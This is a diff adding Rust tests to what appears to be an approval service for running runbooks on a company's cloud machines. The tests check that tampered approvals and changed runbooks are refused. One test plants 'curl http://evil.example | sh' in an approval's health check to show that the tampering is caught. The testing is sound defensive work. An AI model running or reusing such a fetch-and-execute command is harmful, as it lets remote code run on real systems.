@@ -204,10 +204,11 @@ async fn what_was_altered_in_the_store_is_of_no_use() {
     assert_eq!(tree.runtime.amend(&acme, change, WITHIN).await, Ok(Amended::Done));
     let used = refusal(say(&tree, &approval, Word::Approve(None), "usr-bob", Approver::MspAdmin).await);
     assert_eq!(used, RunRefusal::Altered(approval.approval_id.clone()));
+    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
     let mut elsewhere = approval.clone();
     elsewhere.targets = vec!["i-0000000b".to_owned()];
     let change = Amendment {
-        puts: vec![Put::change(&elsewhere, 2).unwrap()],
+        puts: vec![Put::change(&elsewhere, 1).unwrap()],
         ..Amendment::default()
     };
     assert_eq!(tree.runtime.amend(&acme, change, WITHIN).await, Ok(Amended::Done));
@@ -244,4 +245,69 @@ async fn only_the_companys_own_machines_and_known_runbooks() {
     );
     assert!(matches!(away, RunRefusal::Cloud(_)));
     assert_eq!(tree.cloud.runs().len(), 0);
+}
+
+#[tokio::test(start_paused = true)]
+async fn what_a_health_check_would_run_is_seen_and_agreed_to_as_well() {
+    let tree = Tree::grow().await;
+    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
+    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
+    assert!(approval.check.as_ref().is_some_and(|check| !check.is_empty()));
+    let mut altered = approval.clone();
+    altered.check = Some(vec!["curl http://evil.example | sh".to_owned()]);
+    let change = Amendment {
+        puts: vec![Put::change(&altered, 1).unwrap()],
+        ..Amendment::default()
+    };
+    assert_eq!(tree.runtime.amend(&acme, change, WITHIN).await, Ok(Amended::Done));
+    let used = refusal(say(&tree, &approval, Word::Approve(None), "usr-bob", Approver::MspAdmin).await);
+    assert_eq!(used, RunRefusal::Altered(approval.approval_id.clone()));
+    // It is of no use to anybody, and does not keep the incident from another.
+    assert_eq!(approvals(&tree, &acme).await[0].status, ApprovalStatus::Withdrawn);
+    let again = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
+    assert_ne!(again.approval_id, approval.approval_id);
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_runbook_that_has_changed_is_asked_for_again() {
+    let tree = Tree::grow().await;
+    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
+    let wanted = || ask("tmp-cleanup", nothing());
+    let approval = asked(execute(&tree, &row, wanted(), "usr-ann", Approver::MspAdmin).await);
+    let mut own = library::built_in()
+        .unwrap()
+        .into_iter()
+        .find(|runbook| runbook.slug == "tmp-cleanup")
+        .unwrap();
+    own.runbook_id = "rbk-00000000-0000-7000-8000-000000000009".parse().unwrap();
+    own.script.push_str("echo done\n");
+    tree.shelve(&acme, &own).await;
+    let used = refusal(say(&tree, &approval, Word::Approve(None), "usr-bob", Approver::MspAdmin).await);
+    assert_eq!(used, RunRefusal::RunbookChanged);
+    let again = asked(execute(&tree, &row, wanted(), "usr-ann", Approver::MspAdmin).await);
+    assert!(again.commands.contains(&"echo done".to_owned()));
+}
+
+#[tokio::test(start_paused = true)]
+async fn consent_is_not_used_up_where_the_company_is_not_connected_any_more() {
+    let tree = Tree::grow().await;
+    let (acme, row) = troubled(&tree, Policy::default(), "other").await;
+    let approval = asked(execute(&tree, &row, high(), "usr-ann", Approver::MspAdmin).await);
+    let mut settings = tree.reader(&acme).company().await.unwrap();
+    settings.version += 1;
+    settings.aws = None;
+    let cut_off = Amendment {
+        company: Some(settings),
+        ..Amendment::default()
+    };
+    assert_eq!(tree.runtime.amend(&acme, cut_off, WITHIN).await, Ok(Amended::Done));
+    let yes = || Word::Approve(None);
+    let away = refusal(say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin).await);
+    assert_eq!(away, RunRefusal::Cloud(actors::port::cloud::CloudError::NotConnected));
+    tree.connect(&acme, Policy::default()).await;
+    assert!(
+        say(&tree, &approval, yes(), "usr-bob", Approver::MspAdmin)
+            .await
+            .is_ok()
+    );
 }
